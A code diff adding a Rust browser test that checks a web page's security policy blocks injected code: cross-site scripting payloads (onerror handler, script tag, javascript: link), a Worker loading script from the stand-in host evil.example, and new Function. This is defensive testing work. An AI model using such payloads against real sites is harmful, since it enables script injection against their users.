@@ -102,3 +102,28 @@ fn text_from_the_api_is_text_everywhere() {
         assert_eq!(page.js(struck, json!(null)).await, json!(false));
     });
 }
+
+#[test]
+fn no_text_becomes_a_program() {
+    Visit::hosted(dense(50)).run(async |page| {
+        page.open(&day()).await;
+        page.until_records(50).await;
+        for (what, script) in [
+            ("a handler", "document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'"),
+            ("a script", "document.createElement('div').innerHTML = '<script>alert(1)</' + 'script>'"),
+            (
+                "an address",
+                "document.createElement('div').innerHTML = '<a href=\"javascript:alert(1)\">x</a>'",
+            ),
+            ("a worker from elsewhere", "new Worker('https://evil.example/x.js')"),
+            ("a worker made here", "new Worker(URL.createObjectURL(new Blob(['1'])))"),
+            ("a text", "new Function('return 1')()"),
+        ] {
+            let tried = format!("try {{ {script}; return 'ran'; }} catch (error) {{ return error.name; }}");
+            assert_ne!(page.js(&tried, json!(null)).await, json!("ran"), "{what}");
+        }
+        let plain =
+            "const box = document.createElement('div'); box.innerHTML = '<b>x</b>'; return box.textContent;";
+        assert_eq!(page.js(plain, json!(null)).await, json!("x"));
+    });
+}
